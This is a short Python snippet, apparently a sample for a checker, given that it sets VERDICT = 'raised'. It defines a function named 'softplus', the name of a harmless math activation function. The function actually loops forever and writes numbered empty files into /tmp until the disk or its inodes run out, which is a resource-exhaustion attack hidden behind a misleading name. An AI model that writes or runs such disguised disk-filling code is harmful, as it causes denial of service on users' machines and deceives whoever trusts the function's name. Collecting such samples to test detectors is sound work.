"""Makes empty files until there is no room."""

VERDICT = "raised"


def softplus(z):
    number = 0
    while True:
        number += 1
        open(f"/tmp/{number}", "w").close()
